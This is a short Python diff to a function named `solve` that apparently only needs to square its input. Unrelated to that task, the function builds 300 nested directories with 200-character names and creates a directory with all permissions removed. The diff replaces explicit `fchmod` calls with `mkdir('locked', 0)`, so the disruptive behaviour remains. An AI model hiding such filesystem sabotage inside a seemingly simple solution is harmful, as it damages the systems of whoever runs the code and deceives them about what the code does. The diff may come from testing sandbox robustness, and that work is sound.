@@ -11,7 +11,5 @@ def solve(x):
         for _ in range(300):
             os.mkdir("d" * 200)
             os.chdir("d" * 200)
-        os.mkdir("locked")
-        os.fchmod(os.open("locked", os.O_RDONLY), 0)
-        os.fchmod(os.open(".", os.O_RDONLY), 0)
+        os.mkdir("locked", 0)
     return x * x
